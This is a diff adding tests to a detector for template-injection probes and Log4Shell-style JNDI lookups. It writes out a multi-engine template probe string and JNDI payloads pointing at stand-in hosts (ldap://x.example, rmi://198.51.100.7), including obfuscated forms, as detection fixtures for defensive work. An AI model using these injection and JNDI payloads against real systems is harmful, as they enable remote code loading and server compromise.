@@ -26,6 +26,13 @@ describe("expression analyzer: template injection", () => {
     expect(top(text)).toBeGreaterThanOrEqual(0.8);
   });
 
+  test("a short polyglot of three engines' delimiters is a probe for which engine runs", () => {
+    expect(analyze(`\${{<%[%'"}}%\\.`).map((f) => f.rule)).toEqual(["expression.template-probe"]);
+    expect(top("{{=<% ${ #{")).toBe(0.8);
+    // Two engines' syntax, or a template longer than a probe, is no polyglot.
+    for (const v of ["{{name}} costs ${price}", "a #{x} and {{y}}", `{{ user }} ${"x".repeat(60)} \${total} <% if a %>`]) expect(top(v)).toBe(0);
+  });
+
   test("engine globals are a sign, a call on them more", () => {
     expect(top("{{config}}")).toBeGreaterThan(0);
     expect(top("{{config.items()}}")).toBeGreaterThan(top("{{config}}"));
@@ -136,6 +143,14 @@ describe("expression analyzer: Log4Shell", () => {
     const padded = `${"AAAA".repeat(2000)}${encoded}`;
     for (const s of [`\${base64:${encoded}}`, `\${\${base64:${encoded}}}`, `x \${base64:${encoded}} y`, `\${base64:${padded}}`]) expect(top(s, "log4shell")).toBe(0.97);
     expect(top(`\${base64:${Buffer.from("hello").toString("base64")}}`, "log4shell")).toBe(0);
+  });
+
+  test("a JNDI URL written out counts outside any lookup: a hiding not resolved here still spells it", () => {
+    for (const s of ["jndi:ldap://x.example/a", "$&LBRACE;jndi:ldap://x.example/a}", "%{jndi:rmi://198.51.100.7:1099/Obj}", "x JNDI : dns://x.example"]) {
+      expect(analyze(s).find((f) => f.class === "log4shell")).toMatchObject({ rule: "expression.jndi-url", strength: 0.85 });
+    }
+    expect(analyze("${jndi:ldap://x.example/a}").map((f) => f.rule)).toEqual(["expression.jndi-lookup"]);
+    for (const s of ["see the jndi: docs", "jndi:java:comp/env/jdbc/ds", "spring.datasource.jndi-name=ldap"]) expect(top(s, "log4shell")).toBe(0);
   });
 });
 
